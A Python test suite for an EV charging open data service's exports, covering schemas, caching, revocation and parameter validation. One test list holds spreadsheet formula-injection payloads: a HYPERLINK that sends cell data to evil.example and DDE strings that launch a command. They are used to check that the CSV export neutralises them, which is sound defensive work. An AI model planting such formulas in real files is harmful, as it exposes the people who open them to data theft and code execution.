"""Open data exports (SPEC §8): schemas on the demo data, agreement, revocation, HTTP."""

import csv
import gzip
import io
import json
import re
from datetime import UTC, datetime, timedelta
from pathlib import Path
from urllib.parse import quote

import psycopg
import pytest
from flask import current_app
from jsonschema import Draft202012Validator, FormatChecker
from referencing import Registry, Resource
from referencing.jsonschema import DRAFT202012

from sgv import public
from sgv.extensions import db
from sgv.opendata import openapi
from sgv.opendata.csv import NAMES
from sgv.opendata.formats import installation_object
from sgv.public import documents as public_documents
from sgv.registry import import_register
from tests.conftest import module_world
from tests.ocpi_helpers import headers, make_party
from tests.public_helpers import (
    TARIFF,
    add_installation,
    live_cpo,
    location_body,
    push_status,
)

DEMO = Path(__file__).resolve().parent.parent / "data" / "ripree_demo.csv"
SITE = "DGT-002787f0cedc0889"  # Iberdrola, Valdemoro: ES*IBD*E212659 and ES*IBD*E212766
REFS = ("ES*IBD*E212659", "ES*IBD*E212766")
EXPORTS = ("installations.json", "installations.geojson", "installations.csv", "status.json")
SCHEMA_OF = {
    "installations.json": "InstallationsExport",
    "installations.geojson": "InstallationsGeoJSON",
    "status.json": "StatusExport",
}


# --- responses validated by jsonschema against the OpenAPI description's schemas ----------

# The description as the app publishes it; "#/components/schemas/…" resolves inside it.
DESCRIPTION = Resource.from_contents(openapi.document(), default_specification=DRAFT202012)
REGISTRY = Registry().with_resource("urn:sgv:opendata", DESCRIPTION)


def errors(value, name: str) -> list[str]:
    """Return where `value` breaks components/schemas/`name` of the OpenAPI description."""
    schema = {"$ref": f"urn:sgv:opendata#/components/schemas/{name}"}
    validator = Draft202012Validator(schema, registry=REGISTRY, format_checker=FormatChecker())
    return [
        f"{error.json_path}: {error.message}"
        for error in sorted(validator.iter_errors(value), key=lambda e: e.json_path)
    ]


def conforms(name: str, document: dict) -> dict:
    problems = errors(document, SCHEMA_OF[name])
    assert problems == [], problems[:10]
    return document


# --- the demo world: the real register sample, one live CPO matched to one site ----------


def location(when: str = "2025-06-01T10:00:00Z") -> dict:
    evses = [
        {
            "uid": f"U{n}",
            "evse_id": ref,
            "status": "AVAILABLE",
            "connectors": [
                {
                    "id": "1",
                    "standard": "IEC_62196_T2_COMBO",
                    "format": "CABLE",
                    "power_type": "DC",
                    "max_voltage": 500,
                    "max_amperage": 100,
                    "max_electric_power": 50000,
                    "tariff_ids": ["T1"],
                    "last_updated": when,
                }
            ],
            "last_updated": when,
        }
        for n, ref in enumerate(REFS, 1)
    ]
    return {
        "country_code": "ES",
        "party_id": "IBD",
        "id": SITE,
        "publish": True,
        "name": "Valdemoro",
        "address": "Rosalia De Castro,1",
        "city": "Valdemoro",
        "postal_code": "28342",
        "country": "ESP",
        "coordinates": {"latitude": "40.19398", "longitude": "-3.69273"},
        "time_zone": "Europe/Madrid",
        "evses": evses,
        "last_updated": when,
    }


def go_live(client) -> str:
    party, token = make_party("ES", "IBD", state="live")
    party.phone = "+34 900 224 522"
    db.session.commit()
    url = f"/api/2.2.1/locations/ES/IBD/{SITE}"
    assert client.put(url, json=location(), headers=headers(token)).status_code in (200, 201)
    tariff = {**TARIFF, "party_id": "IBD"}
    response = client.put("/api/2.2.1/tariffs/ES/IBD/T1", json=tariff, headers=headers(token))
    assert response.status_code in (200, 201)
    return token


def load_demo() -> str:
    """Import the demo register and put IBD live on SITE; return IBD's token."""
    import_register(DEMO)
    db.session.commit()
    return go_live(current_app.test_client())


# The demo world, built once for the module; test_datex2, test_operators, test_route too.
demo_world, rolled_back_database, demo = module_world("demo", load_demo)


def get(client, name: str, **args):
    response = client.get(f"/opendata/{name}", query_string=args)
    assert response.status_code == 200, response.get_data(as_text=True)[:300]
    response.get_data()  # read the stream now, inside this request's context
    return response


def fetch(client, name: str, **args):
    """Return an export parsed: a dict for JSON, a list of row dicts for CSV."""
    body = get(client, name, **args).get_data(as_text=True)
    if name.endswith(".csv"):
        return list(csv.DictReader(io.StringIO(body)))
    return conforms(name, json.loads(body))


def statuses(document: dict, status: str | None = None) -> set[str]:
    """Return the evse_refs with a status (or that status) in a JSON or GeoJSON export."""
    sites = document.get("installations") or [f["properties"] for f in document["features"]]
    return {
        p["evse_ref"]
        for s in sites
        for p in s["charge_points"]
        if p["status"] and (status is None or p["status"] == status)
    }


def run_cli(app, *args: str):
    result = app.test_cli_runner().invoke(args=["sgv", *args])
    assert result.exit_code == 0, result.output


# --- each export's schema on the demo data -------------------------------------------


def test_installations_json_matches_its_schema_on_the_demo_register(demo, client):
    data = fetch(client, "installations.json")
    assert data["count"] == len(data["installations"]) == 661
    assert sum(len(s["charge_points"]) for s in data["installations"]) == 1902
    assert data["licence"]["id"] == "CC-BY-4.0" and "RIPREE" in data["licence"]["attribution"]
    assert "nap.dgt.es" in data["licence"]["attribution"]
    [site] = [s for s in data["installations"] if s["id"] == SITE]
    assert site["operator"]["phone"] == "+34 900 224 522"
    assert site["has_live_data"] and site["price_from"] == 0.45
    point = site["charge_points"][0]
    assert (point["evse_ref"], point["status"], point["status_at"]) == (
        REFS[0],
        "AVAILABLE",
        "2025-06-01T10:00:00Z",
    )
    price = point["connectors"][0]["price"]
    assert (price["energy_excl_vat"], price["vat_rate"], price["energy_incl_vat"]) == (
        0.45,
        21.0,
        0.5445,
    )
    others = [p for s in data["installations"] if s["id"] != SITE for p in s["charge_points"]]
    assert all(p["status"] is None and p["connectors"] == [] for p in others)


def test_geojson_is_a_feature_collection_in_lon_lat_order(demo, client):
    data = fetch(client, "installations.geojson")
    assert data["type"] == "FeatureCollection" and len(data["features"]) == 661
    [site] = [f for f in data["features"] if f["id"] == SITE]
    assert site["geometry"] == {"type": "Point", "coordinates": [-3.69273, 40.19398]}
    assert site["properties"]["charge_points"][0]["status"] == "AVAILABLE"
    assert get(client, "installations.geojson").mimetype == "application/geo+json"


def test_csv_has_one_documented_row_per_charge_point(demo, client):
    response = get(client, "installations.csv")
    assert response.mimetype == "text/csv"
    rows = list(csv.reader(io.StringIO(response.get_data(as_text=True))))
    assert rows[0] == NAMES and len(rows) == 1 + 1902
    assert all(len(row) == len(NAMES) for row in rows)
    live = {r["evse_ref"]: r for r in fetch(client, "installations.csv") if r["status"]}
    assert sorted(live) == sorted(REFS)
    row = live[REFS[0]]
    assert (row["price_energy_excl_vat"], row["price_vat_rate"], row["postal_code"]) == (
        "0.45",
        "21",
        "28342",
    )


FORMULAS = (
    '=HYPERLINK("https://evil.example/?"&A1,"Pay here")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(A1:A9)",
    "\t=1+2",
    "\r=1+2",
)


@pytest.mark.parametrize("formula", FORMULAS)
def test_csv_neutralises_formulas_from_the_register_and_cpos(app, client, formula):
    site = add_installation(name=formula)  # longitude -3.7035
    site.operator_name = formula
    tariff_id = formula.replace("/", "")[:36]  # an id in a URL path: no slash, ≤ 36
    _, token = make_party("ES", "ABC", state="live")
    body = location_body()
    for evse in body["evses"]:
        evse["connectors"][0]["tariff_ids"] = [tariff_id]
    response = client.put("/api/2.2.1/locations/ES/ABC/INST1", json=body, headers=headers(token))
    assert response.status_code in (200, 201)
    tariff = {**TARIFF, "id": tariff_id}
    url = f"/api/2.2.1/tariffs/ES/ABC/{quote(tariff_id, safe='')}"
    assert client.put(url, json=tariff, headers=headers(token)).status_code in (200, 201)

    body = get(client, "installations.csv").get_data(as_text=True)
    rows = list(csv.DictReader(io.StringIO(body)))
    assert [(r["name"], r["operator_name"]) for r in rows] == [("'" + formula, "'" + formula)] * 2
    assert [r["price_tariff_id"] for r in rows] == ["'" + tariff_id] * 2
    assert [r["price_energy_excl_vat"] for r in rows] == ["0.45"] * 2  # numbers untouched
    assert all(r["longitude"] == "-3.7035" and float(r["latitude"]) == 40.4165 for r in rows)
    assert ",40.4165,-3.7035," in body  # unquoted: a spreadsheet reads numbers
    # The JSON exports (rendered by PostgreSQL) publish the data as it is: not a spreadsheet.
    [site_json] = fetch(client, "installations.json")["installations"]
    assert site_json["name"] == formula
    price = site_json["charge_points"][0]["connectors"][0]["price"]
    assert price["tariff_id"] == tariff_id


def test_csv_leaves_harmless_text_and_negative_numbers_alone(demo, client):
    rows = fetch(client, "installations.csv")
    quoted = {(k, v) for r in rows for k, v in r.items() if v.startswith("'")}
    assert quoted == {("operator_phone", "'+34 900 224 522")}  # "+…" is a formula to Excel
    west = [r for r in rows if r["longitude"].startswith("-")]
    assert west and all(float(r["longitude"]) < 0 for r in west)


def test_status_without_since_lists_every_live_charge_point(demo, client):
    data = fetch(client, "status.json")
    assert [(c["installation_id"], c["evse_ref"]) for c in data["charge_points"]] == [
        (SITE, REFS[0]),
        (SITE, REFS[1]),
    ]
    assert data["filters"]["since"] is None


def test_status_since_lists_a_pushed_change(demo, client):
    since = fetch(client, "status.json")["generated_at"]
    push_status(client, demo, "CHARGING", "2026-01-01T10:00:00Z", location_id=SITE, party_id="IBD")
    data = fetch(client, "status.json", since=since)
    status = {c["evse_ref"]: c["status"] for c in data["charge_points"]}
    assert status[REFS[0]] == "CHARGING"
    later = (datetime.now(UTC) + timedelta(hours=1)).strftime("%Y-%m-%dT%H:%M:%SZ")
    assert fetch(client, "status.json", since=later)["charge_points"] == []


def rendered_by_python(at: datetime) -> list[dict]:
    """Render every installation from the dataclass view, as the CSV and deltas do."""
    return json.loads(json.dumps([installation_object(s) for s in public.installations(at=at)]))


def test_the_four_exports_agree(demo, client):
    sites = fetch(client, "installations.json")["installations"]
    assert sites == rendered_by_python(public.database_now())
    features = fetch(client, "installations.geojson")["features"]
    rows = fetch(client, "installations.csv")
    status = fetch(client, "status.json")["charge_points"]
    assert [f["properties"] for f in features] == [
        {k: v for k, v in s.items() if k != "coordinates"} for s in sites
    ]
    assert [f["geometry"]["coordinates"] for f in features] == [
        [s["coordinates"]["longitude"], s["coordinates"]["latitude"]] for s in sites
    ]
    points = [(s, p) for s in sites for p in s["charge_points"]]
    assert [(r["installation_id"], r["evse_ref"]) for r in rows] == [
        (s["id"], p["evse_ref"]) for s, p in points
    ]
    for row, (site, point) in zip(rows, points, strict=True):
        assert float(row["latitude"]) == site["coordinates"]["latitude"]
        assert float(row["max_power_kw"]) == point["max_power_kw"]
        assert row["status"] == (point["status"] or "")
        assert row["connector_types"] == "|".join(point["connector_types"])
    live = [{"installation_id": s["id"], **p} for s, p in points if p["status"]]
    assert status == [
        {k: v for k, v in p.items() if k not in ("max_power_kw", "connector_types")} for p in live
    ]


# Rows the SQL renderers must read as the Python view does: no zone, a power from volts ×
# amps, a missing tariff, two EVSEs on one charge point (the newer one wins).
EDGE_ROWS = (
    "UPDATE locations SET time_zone = NULL WHERE location_id = 'INST1'",
    "UPDATE connectors SET max_electric_power = NULL WHERE evse_fk = "
    "(SELECT id FROM evses WHERE evse_id = 'ES*ABC*E1')",
    "UPDATE connectors SET tariff_ids = ARRAY['NOPE'] WHERE evse_fk = "
    "(SELECT id FROM evses WHERE evse_id = 'ES*ABC*E2')",
    "UPDATE evses SET charge_point_id = (SELECT charge_point_id FROM evses "
    f"WHERE evse_id = '{REFS[0]}'), last_updated = now() + interval '1 s' "
    f"WHERE evse_id = '{REFS[1]}'",
)


def edge_rows(app) -> datetime:
    """Put Iberdrola in a maintenance window begun 5 minutes ago and store EDGE_ROWS
    (uncommitted); return the database's time."""
    now = public.database_now()
    run_cli(
        app,
        *("cpo", "maintenance", "add", "ES", "IBD"),
        *("--start", (now - timedelta(minutes=5)).isoformat()),
        *("--end", (now + timedelta(hours=1)).isoformat()),
    )
    for statement in EDGE_ROWS:
        db.session.execute(db.text(statement))
    return now


def test_sql_rendering_equals_the_public_view_in_edge_cases(demo, app, client):
    add_installation("INST1", lat="28.1", lon="-15.4")  # Gran Canaria: Atlantic/Canary
    token = live_cpo(client)
    client.put(
        "/api/2.2.1/tariffs/ES/ABC/T1",
        json=NIGHT_TARIFF | {"party_id": "ABC"},
        headers=headers(token),
    )
    now = edge_rows(app)
    db.session.commit()
    for at in (now, now + timedelta(hours=12)):
        sites = [json.loads(d) for d in public_documents.documents(at=at)]
        assert sites == rendered_by_python(at)
    canary = next(s for s in sites if s["id"] == "INST1")
    assert [p["status"] for p in canary["charge_points"]] == ["AVAILABLE", "AVAILABLE"]
    assert canary["charge_points"][0]["connectors"][0]["power_kw"] == 150.0  # 500 V × 300 A
    assert canary["charge_points"][1]["connectors"][0]["price"] is None
    [valdemoro] = [s for s in sites if s["id"] == SITE]
    assert [p["status"] for p in valdemoro["charge_points"]] == ["UNKNOWN", None]


# --- a revoked CPO: static data only everywhere, withdrawn in the deltas ---------------


def test_revoked_cpo_has_no_dynamic_data_in_any_export_and_is_withdrawn(demo, app, client):
    since = fetch(client, "status.json")["generated_at"]
    cached = client.get("/opendata/installations.json", headers={"Accept-Encoding": "gzip"})
    etag = cached.headers["ETag"]
    assert b"AVAILABLE" in gzip.decompress(cached.get_data())
    run_cli(app, "cpo", "revoke", "ES", "IBD", "--reason", "stale data")
    again = client.get(
        "/opendata/installations.json",
        headers={"Accept-Encoding": "gzip", "If-None-Match": etag},
    )
    assert again.status_code == 200 and again.headers["ETag"] != etag
    for body in (gzip.decompress(again.get_data()), get(client, "installations.geojson").data):
        assert statuses(json.loads(body)) == set() and b'"price"' not in body
    [site] = [s for s in fetch(client, "installations.json")["installations"] if s["id"] == SITE]
    assert [p["evse_ref"] for p in site["charge_points"]] == list(REFS)
    assert not site["has_live_data"] and site["price_from"] is None
    assert all(
        not r["status"] and not r["price_tariff_id"] for r in fetch(client, "installations.csv")
    )
    assert fetch(client, "status.json")["charge_points"] == []
    withdrawn = fetch(client, "status.json", since=since)["charge_points"]
    assert [(c["evse_ref"], c["status"], c["connectors"]) for c in withdrawn] == [
        (REFS[0], None, []),
        (REFS[1], None, []),
    ]


# --- HTTP: gzip, conditional requests, a cache that never outlives a change -------------


def test_gzip_stream_decompresses_to_the_identity_body(demo, client):
    plain = get(client, "installations.json")
    assert "Content-Length" not in plain.headers  # streamed
    assert "Content-Encoding" not in plain.headers
    zipped = client.get("/opendata/installations.json", headers={"Accept-Encoding": "gzip"})
    assert (
        zipped.headers["Content-Encoding"] == "gzip" and zipped.headers["Vary"] == "Accept-Encoding"
    )
    assert gzip.decompress(zipped.get_data()) == plain.get_data()
    assert zipped.headers["ETag"] != plain.headers["ETag"]  # two representations, two tags
    assert 'rel="license"' in plain.headers["Link"]


def test_full_gzip_export_is_served_from_cache_until_a_push(demo, client):
    ask = {"Accept-Encoding": "gzip"}
    first = client.get("/opendata/installations.json", headers=ask)
    assert "Content-Length" not in first.headers  # streamed, and kept on the way
    first_body = first.get_data()
    second = client.get("/opendata/installations.json", headers=ask)
    assert second.headers["Content-Length"] == str(len(first_body))
    assert second.get_data() == first_body
    push_status(client, demo, "CHARGING", "2026-01-01T10:00:00Z", location_id=SITE, party_id="IBD")
    third = client.get("/opendata/installations.json", headers=ask)
    assert "Content-Length" not in third.headers
    assert REFS[0] in statuses(json.loads(gzip.decompress(third.get_data())), "CHARGING")


@pytest.mark.parametrize("name", EXPORTS)
def test_if_none_match_gets_304_until_the_data_changes(demo, client, name):
    etag = get(client, name).headers["ETag"]
    same = client.get(f"/opendata/{name}", headers={"If-None-Match": etag})
    assert same.status_code == 304 and same.get_data() == b"" and same.headers["ETag"] == etag
    weak = client.get(f"/opendata/{name}", headers={"If-None-Match": f"W/{etag}"})
    assert weak.status_code == 304
    push_status(client, demo, "CHARGING", "2026-01-01T10:00:00Z", location_id=SITE, party_id="IBD")
    changed = client.get(f"/opendata/{name}", headers={"If-None-Match": etag})
    assert changed.status_code == 200 and changed.headers["ETag"] != etag


def test_if_modified_since_gets_304_only_for_the_same_version(demo, client):
    first = get(client, "installations.csv")
    stamp = first.headers["Last-Modified"]
    same = client.get("/opendata/installations.csv", headers={"If-Modified-Since": stamp})
    assert same.status_code == 304
    push_status(client, demo, "CHARGING", "2026-01-01T10:00:00Z", location_id=SITE, party_id="IBD")
    # The new version was read in the same second: it must not inherit that date.
    after = client.get("/opendata/installations.csv", headers={"If-Modified-Since": stamp})
    assert after.status_code == 200 and after.headers.get("Last-Modified") != stamp


def test_head_answers_the_headers_without_a_body(demo, client):
    response = client.head("/opendata/installations.json")
    assert response.status_code == 200 and response.get_data() == b""
    assert response.headers["ETag"] == get(client, "installations.json").headers["ETag"]


def test_etag_depends_on_the_query(demo, client):
    full = get(client, "installations.json").headers["ETag"]
    some = get(client, "installations.json", operator="IBD").headers["ETag"]
    assert full != some


def test_a_maintenance_window_that_begins_changes_the_version(demo, client, monkeypatch):
    now = public.database_now()
    start = now + timedelta(hours=1)
    run_cli(
        client.application,
        *("cpo", "maintenance", "add", "ES", "IBD"),
        *("--start", start.isoformat(), "--end", (start + timedelta(hours=1)).isoformat()),
    )
    assert public.next_change(now) == start
    before = get(client, "status.json").headers["ETag"]
    monkeypatch.setattr(public, "database_now", lambda: start + timedelta(seconds=1))
    assert get(client, "status.json").headers["ETag"] != before


NIGHT_TARIFF = {
    **TARIFF,
    "party_id": "IBD",
    "elements": [
        {
            "price_components": [{"type": "ENERGY", "price": 0.25, "vat": 21.0, "step_size": 1}],
            "restrictions": {"start_time": "22:00", "end_time": "08:00"},
        },
        {"price_components": [{"type": "ENERGY", "price": 0.45, "vat": 21.0, "step_size": 1}]},
    ],
}


def test_a_time_of_day_price_change_is_a_change(demo, client):
    response = client.put("/api/2.2.1/tariffs/ES/IBD/T1", json=NIGHT_TARIFF, headers=headers(demo))
    assert response.status_code == 200
    evening = datetime(2030, 1, 1, 20, 0, tzinfo=UTC)  # 21:00 in Madrid
    assert public.next_change(evening) == datetime(2030, 1, 1, 21, 0, tzinfo=UTC)
    points = public.repriced_charge_points(evening, evening + timedelta(hours=2))
    assert len(points) == 2
    assert public.repriced_charge_points(evening, evening + timedelta(minutes=30)) == []


# --- parameters ------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("name", "args", "parameter"),
    [
        ("installations.json", {"bbox": "1,2,3"}, "bbox"),
        ("installations.json", {"bbox": "a,b,c,d"}, "bbox"),
        ("installations.json", {"bbox": "nan,0,1,1"}, "bbox"),
        ("installations.geojson", {"bbox": "10,40,-10,41"}, "bbox"),
        ("installations.csv", {"bbox": "-3,100,-2,101"}, "bbox"),
        ("installations.json", {"operator": ""}, "operator"),
        ("installations.geojson", {"updated_since": "yesterday"}, "updated_since"),
        ("installations.csv", {"updated_since": "2026-02-30T00:00:00Z"}, "updated_since"),
        ("status.json", {"since": "2026-13-01T00:00:00Z"}, "since"),
        ("status.json", {"since": ""}, "since"),
        ("status.json", {"updated_since": "2026-01-01T00:00:00Z"}, "updated_since"),
        ("installations.json", {"since": "2026-01-01T00:00:00Z"}, "since"),
        ("installations.json", {"colour": "red"}, "colour"),
    ],
)
def test_bad_parameters_get_a_400_json_error_naming_them(app, client, name, args, parameter):
    response = client.get(f"/opendata/{name}", query_string=args)
    assert response.status_code == 400 and response.mimetype == "application/json"
    body = response.get_json()
    assert errors(body, "Error") == []
    assert body["code"] == 400 and f"'{parameter}'" in body["description"]


@pytest.mark.parametrize(
    ("name", "parameter", "value", "echo"),
    [
        ("installations.json", "updated_since", "0001-01-01T00:00:00Z", "0001-01-01T00:00:00Z"),
        ("installations.csv", "updated_since", "0001-01-01T00:30:00+01:00", "0001-01-01T00:00:00Z"),
        ("installations.geojson", "updated_since", "0233-01-27T09:48:31Z", "0233-01-27T09:48:31Z"),
        ("installations.json", "updated_since", "9999-12-31T23:59:59Z", "9999-12-31T23:59:59Z"),
        (
            "installations.json",
            "updated_since",
            "9999-12-31T23:00:00-05:00",
            "9999-12-31T23:59:59Z",
        ),
        ("status.json", "since", "0001-01-01T00:00:00Z", "0001-01-01T00:00:00Z"),
        ("status.json", "since", "9999-12-31T23:59:59Z", "9999-12-31T23:59:59Z"),
        ("status.json", "since", "2016-12-31T23:59:60Z", "2017-01-01T00:00:00Z"),  # leap second
        ("status.json", "since", "2026-01-01t10:00:00.123456789z", "2026-01-01T10:00:00Z"),
        (
            "status.json",
            "since",
            "2026-01-01T10:00:00 01:00",
            "2026-01-01T09:00:00Z",
        ),  # + unencoded
        ("status.json", "since", "2026-01-01", "2026-01-01T00:00:00Z"),
    ],
)
def test_every_valid_date_time_is_accepted_and_echoed_in_utc(
    demo, client, name, parameter, value, echo
):
    response = client.get(f"/opendata/{name}", query_string={parameter: value})
    assert response.status_code == 200, response.get_data(as_text=True)[:300]
    if not name.endswith(".csv"):
        assert conforms(name, response.get_json())["filters"][parameter] == echo


@pytest.mark.parametrize("operator", ["\x00", "IB\x00D", "IBD\n", "\x7f"])
def test_an_operator_with_control_characters_is_a_400_not_a_crash(app, client, operator):
    response = client.get("/opendata/installations.json", query_string={"operator": operator})
    assert response.status_code == 400 and "'operator'" in response.get_json()["description"]


def test_the_description_says_what_the_exports_refuse(app, client):
    document = client.get("/opendata/openapi.json").get_json()
    for url, path in document["paths"].items():
        parameters = {p["name"]: p["schema"] for p in path["get"].get("parameters", [])}
        unfiltered = ("datex2/table.xml", "operators.json", "availability.json")
        if url in {f"/opendata/{name}" for name in unfiltered}:  # no filters
            assert not {"bbox", "operator"} & set(parameters)
            continue
        assert parameters["operator"]["minLength"] == 1  # operator= is refused, not "all"
        assert re.search(parameters["operator"]["pattern"], "IB\x00D") is None
        assert re.fullmatch(parameters["bbox"]["pattern"][1:-1], "-3.8,40.3,-3.6,40.5")
        assert not re.fullmatch(parameters["bbox"]["pattern"][1:-1], "-3,100,-2,101")
        assert "swapped" in path["get"]["responses"]["400"]["description"]


def test_an_unsupported_method_is_a_405_naming_the_allowed_ones(app, client):
    response = client.post("/opendata/installations.json")
    assert response.status_code == 405 and response.mimetype == "application/json"
    assert set(response.headers["Allow"].replace(" ", "").split(",")) == {"GET", "HEAD", "OPTIONS"}


def test_bbox_and_operator_filter_every_export(demo, client):
    box = {"bbox": "-3.70,40.19,-3.69,40.20"}
    ids = {s["id"] for s in fetch(client, "installations.json", **box)["installations"]}
    assert SITE in ids and len(ids) < 661
    assert {r["installation_id"] for r in fetch(client, "installations.csv", **box)} == ids
    data = fetch(client, "installations.json", operator="ditec")
    assert {s["operator"]["name"] for s in data["installations"]} == {
        "Ditec Hanstein SA",
        "Ditec Automoviles Barcelona S.L.U.",
    }
    assert data["filters"]["operator"] == "ditec"
    assert fetch(client, "installations.geojson", operator="IBD")["count"] == 634
    assert fetch(client, "status.json", operator="924")["charge_points"] == []
    assert fetch(client, "status.json", bbox="0,0,1,1")["charge_points"] == []


def test_operator_is_matched_as_text_not_as_a_like_pattern(demo, client):
    # '%' and '_' are LIKE wildcards: unescaped, operator=% selected every operator.
    assert fetch(client, "installations.json", operator="%")["installations"] == []
    assert fetch(client, "installations.json", operator="_")["installations"] == []
    assert fetch(client, "status.json", operator="%")["charge_points"] == []
    assert fetch(client, "installations.json", operator="Ditec%Hanstein")["installations"] == []
    assert fetch(client, "installations.json", operator="Ditec Hanstein")["installations"]


def test_updated_since_lists_changed_and_retired_installations(demo, client):
    for table in ("installations", "locations", "evses", "parties", "tariffs"):
        db.session.execute(db.text(f"UPDATE {table} SET updated_at = now() - interval '1 day'"))
    retired = db.session.scalar(db.text("SELECT max(id) FROM installations"))
    db.session.execute(
        db.text("UPDATE installations SET retired_at = now() WHERE id = :id"), {"id": retired}
    )
    db.session.commit()
    hour_ago = (datetime.now(UTC) - timedelta(hours=1)).isoformat()
    data = fetch(client, "installations.json", updated_since=hour_ago)
    assert data["installations"] == [] and data["retired_installations"] == [retired]
    push_status(client, demo, "CHARGING", "2026-01-01T10:00:00Z", location_id=SITE, party_id="IBD")
    data = fetch(client, "installations.json", updated_since=hour_ago)
    assert [s["id"] for s in data["installations"]] == [SITE]
    assert {
        r["installation_id"] for r in fetch(client, "installations.csv", updated_since=hour_ago)
    } == {SITE}


@pytest.mark.parametrize("name", EXPORTS)
def test_staging_exports_are_empty_but_valid(demo, app, client, name):
    app.config["ENVIRONMENT"] = "staging"
    if name.endswith(".csv"):
        assert get(client, name).get_data(as_text=True) == ",".join(NAMES) + "\r\n"
    else:
        assert fetch(client, name)["count"] == 0


# --- documentation ---------------------------------------------------------------------


def test_index_documents_every_export_field_and_column(app, client):
    response = client.get("/opendata/")
    assert response.status_code == 200 and response.mimetype == "text/html"
    page = response.get_data(as_text=True)
    assert 'href="/opendata/openapi.json"' in page and "CC BY 4.0" in page
    for name in EXPORTS:
        assert name in page
    for schema in openapi.PAGE_SCHEMAS:
        for path, _, _ in openapi.field_rows(openapi.SCHEMAS[schema]):
            assert f"<code>{path}</code>" in page
    for column in NAMES:
        assert f"<code>{column}</code>" in page


def test_openapi_describes_the_real_routes_and_resolves(app, client):
    document = client.get("/opendata/openapi.json").get_json()
    assert document["openapi"].startswith("3.1")
    routes = {rule.rule for rule in app.url_map.iter_rules()}
    assert set(document["paths"]) <= routes
    assert {f"/opendata/{name}" for name in EXPORTS} <= set(document["paths"])
    refs = re.findall(r'"\$ref": "#/components/schemas/(\w+)"', json.dumps(document))
    assert set(refs) <= set(document["components"]["schemas"])
    csv_doc = document["paths"]["/opendata/installations.csv"]["get"]["responses"]["200"]
    description = csv_doc["content"]["text/csv"]["schema"]["description"]
    assert all(f"{column}:" in description for column in NAMES)


def test_every_time_the_exports_write_is_documented_as_utc_with_z():
    def times(schema):
        if isinstance(schema, dict):
            if schema.get("format") == "date-time":
                yield schema
            for value in schema.values():
                yield from times(value)
        elif isinstance(schema, list):
            for value in schema:
                yield from times(value)

    found = list(times(openapi.SCHEMAS))
    assert len(found) >= 6
    assert all(
        s["pattern"] == r"^[0-9]{4}-[0-9]{2}-[0-9]{2}T[0-9]{2}:[0-9]{2}:[0-9]{2}Z$" for s in found
    )


@pytest.mark.parametrize(
    ("change", "where"),
    [
        (lambda d: d.update(generated_at="2026-01-01T10:00:00+01:00"), "$.generated_at"),
        (lambda d: d.update(generated_at="2026-01-01T10:00:00.5Z"), "$.generated_at"),
        (lambda d: d.update(extra=1), "$"),
        (lambda d: d.pop("count"), "$"),
        (lambda d: d.update(count=True), "$.count"),
        (lambda d: d.update(count=1.5), "$.count"),
        (lambda d: d["charge_points"][0].update(status="FREE"), "$.charge_points[0].status"),
        (lambda d: d["charge_points"][0].update(evse_id=7), "$.charge_points[0].evse_id"),
        (lambda d: d["filters"].update(bbox=[1, 2, "3", 4]), "$.filters.bbox"),
        (lambda d: d["licence"].pop("attribution"), "$.licence"),
    ],
)
def test_the_schema_check_refuses_a_document_that_breaks_the_contract(demo, client, change, where):
    document = fetch(client, "status.json")  # conforms as served
    change(document)
    problems = errors(document, "StatusExport")
    assert problems and all(p.startswith(where) for p in problems), problems


# --- the overlap: a change committed while a client polled is not lost ------------------


@pytest.mark.parametrize(("overlap", "seen"), [(120, True), (0, False)])
def test_a_change_committed_during_a_poll_reaches_the_next_poll(committed_app, overlap, seen):
    committed_app.config["OPENDATA_OVERLAP"] = overlap
    client = committed_app.test_client()
    add_installation()
    live_cpo(client)
    url = committed_app.config["SQLALCHEMY_DATABASE_URI"].replace("+psycopg", "")
    with psycopg.connect(url) as slow:  # a push whose transaction began before the poll
        slow.execute(
            "UPDATE evses SET status = 'CHARGING', status_updated_at = now(), updated_at = now() "
            "WHERE evse_id = 'ES*ABC*E1'"
        )
        slow.execute("SELECT pg_sleep(1.1)")
        since = fetch(client, "status.json", since="2000-01-01T00:00:00Z")["generated_at"]
    changed = fetch(client, "status.json", since=since)["charge_points"]
    assert (("ES*ABC*E1", "CHARGING") in [(c["evse_ref"], c["status"]) for c in changed]) is seen


@pytest.mark.parametrize("name", EXPORTS)
def test_a_client_that_leaves_mid_stream_frees_the_cursor(demo, client, name):
    response = client.get(f"/opendata/{name}", buffered=False)
    assert next(iter(response.response))
    response.close()  # the WSGI server closes the iterable; no cursor is left to the GC
